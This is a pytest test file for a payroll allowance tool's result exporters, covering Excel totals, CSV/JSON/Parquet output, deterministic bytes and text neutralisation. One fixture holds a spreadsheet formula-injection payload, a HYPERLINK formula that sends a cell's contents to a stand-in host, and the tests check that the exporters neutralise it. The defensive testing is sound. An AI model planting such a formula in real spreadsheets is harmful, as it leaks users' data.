@@ -1,0 +1,180 @@
+"""Result exports: reconciled totals, neutralised text, the same bytes for the same result."""
+
+from __future__ import annotations
+
+import builtins
+import json
+from pathlib import Path
+from typing import Any
+
+import openpyxl
+import pandas as pd
+import pytest
+from io_helpers import NIPS, compute, frames
+
+from tukin import io
+from tukin.dataset import Dataset
+from tukin.errors import TukinError
+from tukin.io.safe import neutralise
+
+ATTACK = '=HYPERLINK("http://example.invalid/?x="&A1,"klik")'
+
+
+@pytest.fixture(scope="module")
+def result() -> Any:
+    """The small regency with an injection attempt in a name and one rejected employee."""
+    tables = frames()
+    tables["employees"].loc[1, "name"] = ATTACK
+    extra = pd.DataFrame(
+        {"nip": ["199201012015012005"], "name": ["Eko"], "position_id": ["NOPE"], "status": ["pns"]}
+    )
+    tables["employees"] = pd.concat([tables["employees"], extra], ignore_index=True)
+    return compute(Dataset.from_frames(**tables))
+
+
+class TestWorkbook:
+    def test_sheets_and_reconciled_totals(self, result: Any, tmp_path: Path):
+        """Ringkasan and Rincian totals equal the receipt; Ditolak lists the rejected one."""
+        out = io.write_result(result, tmp_path / "hasil.xlsx", explain_nips=[NIPS[2]])
+        wb = openpyxl.load_workbook(out)
+        assert wb.sheetnames == ["Ringkasan", "Rincian", "Ditolak", "Kuitansi", "Penjelasan"]
+        summary = pd.read_excel(out, sheet_name="Ringkasan")
+        total = summary.iloc[-1]
+        assert total["ID OPD"] == "JUMLAH"
+        assert int(total["Tunjangan"]) == result.receipt.total_allowance
+        assert int(total["Jumlah Pegawai"]) == result.receipt.employees_paid == 4
+        assert int(total["Ditolak"]) == result.receipt.employees_rejected == 1
+        rejected = pd.read_excel(out, sheet_name="Ditolak", dtype={"NIP": str})
+        assert rejected["NIP"].tolist() == ["199201012015012005"]
+
+    def test_money_format_and_frozen_header(self, result: Any, tmp_path: Path):
+        """Rupiah columns carry the Rp format; headers are frozen."""
+        ws = openpyxl.load_workbook(io.write_result(result, tmp_path / "h.xlsx"))["Rincian"]
+        heads = [c.value for c in ws[1]]
+        col = heads.index("Tunjangan") + 1
+        assert ws.cell(row=2, column=col).number_format == '"Rp"#,##0'
+        assert ws.freeze_panes == "A2"
+
+    def test_receipt_json_round_trips(self, result: Any, tmp_path: Path):
+        """Kuitansi holds the receipt as JSON for tukin verify."""
+        ws = openpyxl.load_workbook(io.write_result(result, tmp_path / "h.xlsx"))["Kuitansi"]
+        cell = next(r[2].value for r in ws.iter_rows(min_row=2) if r[1].value == "receipt_json")
+        assert json.loads(cell) == result.receipt.model_dump()
+
+    def test_formula_injection_is_neutralised(self, result: Any, tmp_path: Path):
+        """A name starting with '=' is stored as text with a leading apostrophe."""
+        ws = openpyxl.load_workbook(io.write_result(result, tmp_path / "h.xlsx"))["Rincian"]
+        names = {c.value: c.data_type for c in ws["B"]}
+        assert names["'" + ATTACK] == "s"
+        assert not any(isinstance(v, str) and v.startswith("=") for v in names)
+
+    def test_explanation_sheet(self, result: Any, tmp_path: Path):
+        """Penjelasan shows the steps and the final amount of the chosen employee."""
+        out = io.write_result(result, tmp_path / "h.xlsx", explain_nips=[NIPS[2]])
+        ws = openpyxl.load_workbook(out)["Penjelasan"]
+        assert NIPS[2] in ws["A1"].value
+        assert [ws.cell(row=r, column=3).value for r in range(3, 7)] == [
+            "dasar",
+            "potongan",
+            "kotor",
+            "tpp",
+        ]
+        paid = result.to_frame().set_index("nip").loc[NIPS[2], "allowance"]
+        assert ws["G1"].value == paid
+
+    def test_english_labels(self, result: Any, tmp_path: Path):
+        wb = openpyxl.load_workbook(io.write_result(result, tmp_path / "h.xlsx", lang="en"))
+        assert wb.sheetnames == ["Summary", "Detail", "Rejected", "Receipt"]
+
+
+class TestMachineFormats:
+    def test_csv_convention_and_sidecars(self, result: Any, tmp_path: Path):
+        """UTF-8, comma, contract column names; receipt and rejected beside it."""
+        out = io.write_result(result, tmp_path / "hasil.csv")
+        text = out.read_text(encoding="utf-8")
+        assert text.splitlines()[0].startswith("nip,name,status,")
+        back = pd.read_csv(out, dtype={"nip": str})
+        assert back["allowance"].sum() == result.receipt.total_allowance
+        assert "'" + ATTACK in back["name"].tolist()
+        receipt = json.loads((tmp_path / "hasil.receipt.json").read_text())
+        assert receipt == result.receipt.model_dump()
+        assert (tmp_path / "hasil.rejected.csv").exists()
+
+    def test_json_document(self, result: Any, tmp_path: Path):
+        """format, receipt, totals, employees and rejected; text as it is."""
+        doc = json.loads(
+            io.write_result(result, tmp_path / "h.json", explain_nips=[NIPS[0]]).read_text()
+        )
+        assert doc["format"] == "tukin-result/1"
+        assert sum(e["allowance"] for e in doc["employees"]) == result.receipt.total_allowance
+        assert ATTACK in [e["name"] for e in doc["employees"]]
+        assert doc["explanations"][NIPS[0]]["nip"] == NIPS[0]
+
+    def test_parquet_carries_receipt(self, result: Any, tmp_path: Path):
+        pq = pytest.importorskip("pyarrow.parquet")
+        table = pq.read_table(io.write_result(result, tmp_path / "h.parquet"))
+        assert json.loads(table.schema.metadata[b"tukin.receipt"]) == result.receipt.model_dump()
+        assert table.num_rows == 4
+
+    def test_parquet_without_pyarrow_is_a_clear_error(
+        self, result: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+    ):
+        real = builtins.__import__
+
+        def no_pyarrow(name: str, *args: Any, **kwargs: Any) -> Any:
+            if name.startswith("pyarrow"):
+                raise ImportError(name)
+            return real(name, *args, **kwargs)
+
+        monkeypatch.setattr(builtins, "__import__", no_pyarrow)
+        with pytest.raises(TukinError) as err:
+            io.write_result(result, tmp_path / "h.parquet")
+        assert err.value.code == "missing_dependency"
+
+    def test_unknown_suffix(self, result: Any, tmp_path: Path):
+        with pytest.raises(TukinError) as err:
+            io.write_result(result, tmp_path / "h.pdf")
+        assert err.value.code == "output_format"
+
+
+class TestDeterminism:
+    @pytest.mark.parametrize("suffix", [".xlsx", ".csv", ".json", ".parquet"])
+    def test_same_result_same_bytes(self, result: Any, tmp_path: Path, suffix: str):
+        """Writing one result twice gives byte-identical files."""
+        if suffix == ".parquet":
+            pytest.importorskip("pyarrow")
+        a = io.write_result(result, tmp_path / f"a{suffix}", explain_nips=[NIPS[0]]).read_bytes()
+        b = io.write_result(result, tmp_path / f"b{suffix}", explain_nips=[NIPS[0]]).read_bytes()
+        assert a == b
+
+    def test_workbook_times_come_from_the_receipt(self, result: Any, tmp_path: Path):
+        props = openpyxl.load_workbook(io.write_result(result, tmp_path / "h.xlsx")).properties
+        assert props.modified.isoformat()[:19] == result.receipt.computed_at[:19]
+
+
+@pytest.mark.parametrize(
+    ("text", "safe"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+62 812", "'+62 812"),
+        ("-", "'-"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\tx", "'\tx"),
+        ("\rx", "'\rx"),
+        ("Budi", "Budi"),
+        ("a=b", "a=b"),
+        ("x\x00y", "x\ufffdy"),
+    ],
+)
+def test_neutralise(text: str, safe: str):
+    """Risky first characters get an apostrophe; control characters XML refuses are replaced."""
+    assert neutralise(text) == safe
+
+
+def test_docstring_examples_run():
+    """The examples in the module docstrings are true."""
+    import doctest
+
+    import tukin.io.safe
+
+    assert doctest.testmod(tukin.io.safe).failed == 0
